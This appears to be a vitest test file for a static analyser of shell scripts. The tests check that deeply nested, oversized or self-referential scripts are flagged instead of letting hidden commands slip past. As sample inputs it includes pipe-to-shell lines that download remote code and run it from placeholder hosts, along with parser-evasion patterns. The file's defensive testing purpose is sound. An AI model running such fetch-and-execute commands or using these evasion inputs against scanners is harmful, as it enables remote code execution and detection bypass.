import { expect, test } from "vitest";
import { MAX_STEPS } from "../../../src/read/shell/run/limits.ts";
import { MAX_COMMANDS, MAX_DEPTH, MAX_OPEN_QUOTES } from "../../../src/read/shell/syntax/cursor.ts";
import { tellShell, tellSnippet } from "./read.ts";

const MEGABYTE = 1_048_576;

test.each([
  ["substitutions", "echo $(".repeat(10_000)],
  ["subshells", "(".repeat(10_000)],
  ["groups", "{ ".repeat(10_000)],
  ["conditions", "if a; then ".repeat(10_000)],
  ["loops", "while a; do ".repeat(10_000)],
  ["functions", "f() { ".repeat(10_000)],
  ["calculations", "$((".repeat(10_000)],
  ["process substitutions", "a <(".repeat(10_000)],
  ["substitutions in quotes", '"$('.repeat(10_000)],
])("10,000 %s inside each other are a gap", (_, script) => {
  const { gaps } = tellShell(script);
  expect(gaps.filter((gap) => gap.blocking).map((gap) => gap.code)).toContain("too-deep");
});

function nested(depth: number): string {
  return `${"$(".repeat(depth)}curl https://x.example${")".repeat(depth)}`;
}

test("brackets at the greatest depth are read, one more is not", () => {
  expect(tellShell(nested(MAX_DEPTH)).gaps).toEqual([]);
  expect(tellShell(nested(MAX_DEPTH + 1)).gaps.map((gap) => gap.code)).toEqual(["too-deep"]);
});

test("a quote without an end hides nothing", () => {
  const { operations, gaps } = tellShell('echo "it\ncurl https://x.example/a | sh\n');
  expect(operations).toEqual([
    "2:1 download ⟨https://x.example/a⟩",
    "2:28 evaluate shell ~⟨?⟩ ← network https://x.example/a",
  ]);
  expect(gaps).toEqual([
    { code: "unparsable", path: "run.sh", message: "run.sh: parts of it do not read as shell", blocking: false },
  ]);
});

test("an apostrophe in a manual is no gap", () => {
  expect(tellSnippet("echo don't\n").gaps).toEqual([]);
});

test("too many quotes without an end are a gap", () => {
  expect(tellShell('"$(x\n'.repeat(2)).gaps.map((gap) => gap.blocking)).toEqual([false]);
  expect(tellShell('"$(x\n'.repeat(MAX_OPEN_QUOTES * 2)).gaps.some((gap) => gap.blocking)).toBe(true);
});

test.each([
  ["braces", "{".repeat(MEGABYTE / 4)],
  ["braces with commas", "{a,".repeat(MEGABYTE / 4)],
  ["parameters", "${a:-".repeat(MEGABYTE / 8)],
])("a run of open %s is a gap", (_, script) => {
  expect(tellShell(script).gaps).toContainEqual({
    code: "unparsable",
    path: "run.sh",
    message: "run.sh: shell text with too many words, or quotes and brackets left open, was not read",
    blocking: true,
  });
});

test("as many commands as are read, then a gap", () => {
  const command = "true\n";
  expect(tellShell(command.repeat(MAX_STEPS)).gaps).toEqual([]);
  expect(tellShell(command.repeat(MAX_STEPS + 1)).gaps).toEqual([
    {
      code: "too-many",
      path: "run.sh",
      message: `run.sh: more than ${MAX_STEPS} shell commands; the rest was not read`,
      blocking: true,
    },
  ]);
});

test("functions that call each other end", () => {
  const { gaps, operations } = tellShell("f() { g; g; }\ng() { f; f; }\nf\ncurl https://x.example\n");
  expect(gaps).toEqual([]);
  expect(operations).toEqual(["4:1 download ⟨https://x.example⟩"]);
});

test("an alias that names itself ends", () => {
  expect(tellShell("alias a='a a'\na\n").gaps).toEqual([]);
});

test.each([
  ["a variable that doubles", `x=aaaaaaaa\n${"x=$x$x\n".repeat(60)}`],
  ["a large variable that is used again and again", `x=${"a".repeat(MEGABYTE / 2)}\n${'y="$x"b\n'.repeat(1_000)}`],
])("%s is a gap or stays small", (_, script) => {
  const { gaps } = tellShell(`${script}\ncurl https://x.example\n`);
  expect(gaps.map((gap) => gap.code).filter((code) => code !== "too-large")).toEqual([]);
});

test("a large variable that is used too often is a gap", () => {
  const { gaps } = tellShell(`x=${"a".repeat(MEGABYTE / 2)}\n${'y="$x"b\n'.repeat(100)}`);
  expect(gaps.map((gap) => [gap.code, gap.blocking])).toEqual([["too-large", true]]);
});

test("a line of a megabyte is read to its end", () => {
  const { operations, gaps } = tellShell(`echo ${"abcdefgh ".repeat(MEGABYTE / 9)}; curl https://x.example`);
  expect(operations.map((operation) => operation.replace(/^.*? /u, ""))).toEqual(["download ⟨https://x.example⟩"]);
  expect(gaps).toEqual([]);
});

test("more words than a command can have are a gap; the next command is read", () => {
  const { operations, gaps } = tellShell(`echo ${"a ".repeat(200_000)}\ncurl https://x.example`);
  expect(operations).toEqual(["2:1 download ⟨https://x.example⟩"]);
  expect(gaps.map((gap) => [gap.code, gap.blocking])).toEqual([["unparsable", true]]);
});

test("a word of a megabyte is read to its end", () => {
  const { operations } = tellShell(`echo ${String.raw`\a`.repeat(MEGABYTE / 2)}; curl https://x.example`);
  expect(operations).toEqual([`1:${MEGABYTE + 8} download ⟨https://x.example⟩`]);
});

test("braces that multiply are not all expanded", () => {
  const { spawned } = tellShell(`a ${"{b,c}".repeat(40)}`);
  expect(spawned[0]?.split(" ").length).toBe(257);
});

test("names of the language's own objects are plain names", () => {
  const { spawned } = tellShell(
    "constructor; __proto__ x; toString; python3 constructor.py; hasOwnProperty=1; $hasOwnProperty",
  );
  expect(spawned).toEqual(["constructor", "__proto__ x", "toString", "python3 constructor.py"]);
});

test("commands past the limit are a gap, at the limit they are taken in", () => {
  const gaps = (count: number): readonly string[] => tellShell(":\n".repeat(count)).gaps.map(({ code }) => code);
  expect(gaps(MAX_COMMANDS)).toEqual(["too-many"]); // more than are followed
  expect(gaps(MAX_COMMANDS + 1)).toEqual(["unparsable", "too-many"]);
  const { gaps: open, operations } = tellShell(`curl -s http://192.0.2.7/x | sh\n${"$(".repeat(500_000)}`);
  expect(open.every(({ blocking }) => blocking)).toBe(true);
  expect(operations.join("\n")).toContain("192.0.2.7");
});
